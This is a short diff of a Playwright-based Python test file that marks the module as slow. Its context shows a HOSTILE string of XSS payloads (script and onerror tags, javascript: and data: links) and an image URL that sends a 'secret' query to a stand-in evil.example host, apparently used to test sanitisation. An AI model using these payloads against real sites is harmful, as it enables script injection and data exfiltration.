@@ -12,6 +12,8 @@ from .conftest import STRICT, TESTS, Stage, Widget, answer, recorded
 if TYPE_CHECKING:
     from playwright.sync_api import Page
 
+pytestmark = pytest.mark.slow
+
 HOSTILE = """<img src=x onerror=alert(1)><script>alert(2)</script> ![pixel](https://evil.example/p.png?q=secret)
 
 [click](javascript:alert(3)) [data](data:text/html,x) [out](https://evil.example/) [here](settings/) <https://evil.example/b>
